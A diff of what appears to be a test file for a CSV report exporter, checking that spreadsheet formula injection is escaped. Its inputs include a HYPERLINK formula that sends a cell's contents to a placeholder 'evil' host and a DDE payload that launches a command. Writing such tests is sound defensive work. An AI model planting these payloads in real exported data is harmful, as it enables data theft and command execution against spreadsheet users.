@@ -151,7 +151,7 @@ CASES = [
          files={"net.yaml": spec(layer='=HYPERLINK("http://evil/?"&A1,"x")')}, stdout=r"""^"'=HYPERLINK\(""http""",
          forbid=r'^"?='),
     Case("csv-dde-command-in-instance-name", ("report", "net.yaml", "--format", "csv"), exit=0,
-         files={"net.yaml": spec(instance="+cmd|' /C calc'!A0")}, stdout=r",'\+cmd\|' /C calc'!A0$",
+         files={"net.yaml": spec(instance="+cmd|' /C calc'!A0")}, stdout=r",'\+cmd\|' /C calc'!A0,\d",
          forbid=r",\+cmd"),
     Case("csv-at-and-minus-in-layer-names", ("report", "net.yaml", "--format", "csv"), exit=0,
          files={"net.yaml": spec(layer="@SUM(A1:A9)", instance="-2+3")}, stdout=r"^'@SUM\(A1:A9\),",
